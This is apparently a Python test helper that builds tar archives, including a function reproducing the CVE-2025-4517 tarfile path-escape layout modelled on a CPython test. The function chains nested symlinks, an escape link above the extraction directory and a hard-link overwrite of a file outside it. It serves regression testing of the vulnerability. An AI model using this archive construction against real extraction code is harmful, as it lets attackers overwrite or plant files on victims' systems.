"""Build hostile and ordinary tar archives member by member (shared by unit and integration
tests). The CVE-2025-4517 layout follows CPython's ``test_realpath_limit_attack``
(python/cpython@v3.13.4:Lib/test/test_tarfile.py)."""

from __future__ import annotations

import io
import os
import tarfile
from pathlib import Path


class ArchiveMaker:
    """``add(name, ...)`` members in order, then ``write(path)``."""

    def __init__(self) -> None:
        self.members: list[tuple[tarfile.TarInfo, bytes | None]] = []

    def add(
        self,
        name: str,
        *,
        content: bytes | None = None,
        symlink_to: str | None = None,
        hardlink_to: str | None = None,
        kind: bytes | None = None,
        mode: int = 0o644,
    ) -> ArchiveMaker:
        info = tarfile.TarInfo(name)
        info.mode = mode
        if symlink_to is not None:
            info.type, info.linkname = tarfile.SYMTYPE, symlink_to
        elif hardlink_to is not None:
            info.type, info.linkname = tarfile.LNKTYPE, hardlink_to
        elif kind is not None:
            info.type = kind
        elif content is not None:
            info.size = len(content)
        else:
            info.type = tarfile.DIRTYPE
        self.members.append((info, content))
        return self

    def write(self, path: Path, mode: str = "w") -> Path:
        with tarfile.open(path, mode) as tar:  # type: ignore[call-overload]
            for info, content in self.members:
                tar.addfile(info, io.BytesIO(content) if content is not None else None)
        return path


def cve_2025_4517(dest: Path, *, hardlink: bool = True) -> ArchiveMaker:
    """Nested directory/symlink pairs that make ``realpath`` give up near PATH_MAX, a link to
    the top through them, an ``escape`` link above ``dest``, a hard link through it to
    ``escape/flag`` and a write through that hard link (left out with ``hardlink=False``), and a
    new file through ``escape``."""
    steps = "abcdefghijklmnop"
    max_path = os.pathconf(dest.parent, "PC_PATH_MAX")
    component = "d" * ((max_path - len(str(dest)) - 1) // (len(steps) + 1))
    arc = ArchiveMaker()
    path = ""
    for step in steps:
        arc.add(os.path.join(path, component), mode=0o777)
        arc.add(os.path.join(path, step), symlink_to=component)
        path = os.path.join(path, component)
    linkpath = os.path.join(*steps, "l" * 254)
    arc.add(linkpath, symlink_to=os.path.join(*[".."] * len(steps)))
    arc.add("escape", symlink_to=os.path.join(linkpath, ".."))
    if hardlink:
        arc.add("flaglink", hardlink_to=os.path.join("escape", "flag"))
        arc.add("flaglink", content=b"overwritten by the archive")
    arc.add("escape/newfile", content=b"new")
    return arc
